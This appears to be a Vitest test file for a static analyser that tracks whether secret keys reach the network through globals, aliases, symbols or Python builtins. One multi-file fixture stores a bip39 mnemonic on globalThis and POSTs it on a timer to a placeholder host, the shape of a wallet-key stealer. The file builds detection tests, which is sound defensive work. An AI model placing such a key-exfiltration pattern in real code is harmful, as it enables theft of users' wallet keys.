import { describe, expect, it } from 'vitest';
import { analyseSources } from './testing/analyseSources.ts';
import { type KeyProgram, keySentInJavaScript, keySentInPython } from './testing/keySent.ts';

const REGISTRY: readonly KeyProgram[] = [
  ['a function on the global object', `globalThis.note = (x) => send(x)`, `globalThis.note(k)`, true],
  ['the same by its name alone', `globalThis.note = (x) => send(x)`, `note(k)`, true],
  ['under another of its names', `window.note = (x) => send(x)`, `self.note(k)`, true],
  [
    'through an alias',
    `const root = typeof window === 'undefined' ? global : window; root.note = send`,
    `note(k)`,
    true,
  ],
  ['under a symbol', `globalThis[Symbol.for('a')] = send`, `globalThis[Symbol.for('a')](k)`, true],
  ['under another symbol', `globalThis[Symbol.for('b')] = send`, `globalThis[Symbol.for('a')](k)`, false],
  ['under another name', `globalThis.other = send`, `globalThis.note(k)`, false],
  ['under a name that nobody can read', `globalThis[name()] = send`, `globalThis.note(k); parseInt(k)`, false],
  ['a key on the global object', '', `globalThis.last = k; send(globalThis.last)`, true],
  ['a key read by its name alone', '', `globalThis.last = k; send(last)`, true],
  ['a key under another name', '', `globalThis.last = k; send(globalThis.first); send(first)`, false],
  [
    'a list on the global object',
    '',
    `(globalThis.list ??= []).push(k); for (const x of globalThis.list) send(x)`,
    true,
  ],
  ['another list on it', '', `(globalThis.list ??= []).push(k); for (const x of globalThis.others) send(x)`, false],
  ['a name of its own', `function note(x) {} globalThis.note = send`, `note(k)`, false],
];

describe('what is kept in the global object', () => {
  it.each(REGISTRY)('%s', async (_, before, body, isSent) => {
    expect(await keySentInJavaScript(before, body)).toEqual(isSent ? ['high'] : []);
  });
  it.each([
    ['builtins', `import builtins\nbuiltins.note = send`, 'note(k)', true],
    ['another name', `import builtins\nbuiltins.other = send`, 'note(k)', false],
  ] satisfies KeyProgram[])('Python: %s', async (_, before, body, isSent) => {
    expect(await keySentInPython(before, body)).toEqual(isSent ? ['high'] : []);
  });
  it('is told file by file', async () => {
    const { flows } = await analyseSources({
      'a.js': `export const unrelated = 1;`,
      'b.js': `import { mnemonicToSeed } from 'bip39'; export function f(k) { mnemonicToSeed(k); globalThis.last = k }`,
      'c.js': `setInterval(() => fetch('https://example.invalid', { method: 'POST', body: globalThis.last }), 1000)`,
    });
    const sent = flows.find((one) => one.source === 'key' && one.sink === 'network');
    expect(sent?.points.map(({ file }) => file)).not.toContain('a.js');
    expect(new Set(sent?.points.map(({ file }) => file))).toEqual(new Set(['b.js', 'c.js']));
  });
});
